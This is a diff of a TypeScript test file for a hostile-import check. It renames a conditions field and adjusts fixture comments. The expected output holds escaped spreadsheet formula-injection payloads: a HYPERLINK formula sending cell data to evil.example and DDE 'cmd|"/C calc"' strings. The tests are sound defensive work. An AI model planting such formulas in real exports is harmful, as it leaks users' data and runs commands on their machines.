@@ -82,12 +82,12 @@ const hostileLines = [
   toJsonl([fact('dup', 'GaN', 3.4)]).trimEnd(),
   // 5: the saved row's id on another fact.
   toJsonl([fact(own.id, 'SnO2', 3.6)]).trimEnd(),
-  // 6: the saved fact itself, with a newer rejection and planted conditions: merges, changes nothing.
+  // 6: the saved fact itself, with a newer rejection: merges, changes nothing. (Other conditions
+  // would make it another fact since issue 26: test/unit/export/conditions-import.test.ts.)
   JSON.stringify({
     ...own,
     id: 'again',
     status: 'rejected',
-    conditions: 'planted',
     review: { decision: 'rejected', at: '2026-02-01T00:00:00.000Z' },
   }),
   // 7: not JSON.
@@ -181,7 +181,7 @@ describe.skipIf(skipReason !== undefined)(skipReason ?? 'a hostile import on the
     const formulas = records.find((record) => record.material?.includes('HYPERLINK'))!;
     expect(formulas).toMatchObject({
       material: `'=HYPERLINK("https://evil.example/?leak="&A1,"TiO2")`,
-      conditions: `'\t=cmd|"/C calc"!A0`,
+      other_conditions: `'\t=cmd|"/C calc"!A0`,
       quote: `'-2+3+cmd|"/C calc"!A0`,
       votes: "'-2+3;gd",
       models: `'@SUM(1+1)*cmd|"/C calc"!A0`,
